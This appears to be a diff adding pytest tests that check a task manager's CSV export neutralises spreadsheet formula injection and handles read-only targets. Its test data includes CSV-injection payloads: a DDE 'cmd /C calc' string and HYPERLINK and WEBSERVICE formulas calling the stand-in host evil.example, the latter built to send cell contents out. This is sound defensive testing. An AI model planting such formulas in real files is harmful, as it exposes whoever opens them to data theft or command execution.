@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
 from datetime import date, timedelta
 from pathlib import Path
 
@@ -12,7 +13,7 @@ import pytest
 from rich.console import Console
 
 from conftest import RunCli
-from export import CSV_COLUMNS, export_to_csv
+from export import CSV_COLUMNS, export_to_csv, neutralise
 from manager import TaskManager
 from models import Priority
 from render import rich_task_table
@@ -121,3 +122,62 @@ def test_rich_table_colours_priority_and_overdue_dates(manager: TaskManager) -> 
     assert "\x1b[1;31mhigh" in styled, (
         f"Rendered a HIGH task. Got no bold red priority in {styled!r}"
     )
+
+
+@pytest.mark.hint(
+    "OWASP's CSV-injection advice: a cell starting with =, +, -, @, tab or carriage return"
+    " gets a single quote in front."
+)
+@pytest.mark.parametrize(
+    "title",
+    ['=HYPERLINK("http://evil.example","Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"],
+    ids=["equals", "plus", "minus", "at"],
+)
+def test_csv_export_neutralises_spreadsheet_formulas_in_titles_and_tags(
+    manager: TaskManager, title: str
+) -> None:
+    manager.add(title, tags=[title[0] + "cmd", "home"])
+    stream = io.StringIO()
+    export_to_csv(manager, stream)
+    row = next(csv.DictReader(io.StringIO(stream.getvalue())))
+    got = (row["title"], row["tags"])
+    expected = ("'" + title, "'" + title[0] + "cmd;home")
+    assert got == expected, (
+        f"Exported title {title!r}. Got (title, tags) {got}, expected {expected}"
+    )
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [("\tx", "'\tx"), ("\rx", "'\rx"), ("=1", "'=1"), ("a=1", "a=1"), ("", ""), ("'=1", "'=1")],
+    ids=["tab", "carriage-return", "equals", "inner-equals", "empty", "already-quoted"],
+)
+def test_neutralise_quotes_only_cells_that_start_a_formula(cell: str, expected: str) -> None:
+    assert neutralise(cell) == expected, f"Called neutralise({cell!r}). Got {neutralise(cell)!r}"
+
+
+def test_cli_export_file_neutralises_formulas(run_cli: RunCli, tmp_path: Path) -> None:
+    run_cli("add", '=WEBSERVICE("http://evil.example/?"&A1)')
+    target = tmp_path / "out.csv"
+    run_cli("export", str(target))
+    titles = [row["title"] for row in csv.DictReader(target.open(encoding="utf-8"))]
+    assert titles == ['\'=WEBSERVICE("http://evil.example/?"&A1)'], (
+        f"Called export out.csv on a formula title. Got {titles}"
+    )
+
+
+def test_cli_export_onto_a_read_only_file_gives_one_line_and_leaves_it(
+    run_cli: RunCli, tmp_path: Path
+) -> None:
+    run_cli("add", "one")
+    target = tmp_path / "out.csv"
+    target.write_text("keep\n", encoding="utf-8")
+    os.chmod(target, 0o444)
+    try:
+        result = run_cli("export", str(target))
+    finally:
+        os.chmod(target, 0o644)
+    assert result.exit_code == 1 and result.stderr.count("\n") == 1, (
+        f"Called export onto a read-only file. Got exit {result.exit_code}, {result.stderr!r}"
+    )
+    assert target.read_text(encoding="utf-8") == "keep\n", "Got the read-only file replaced"
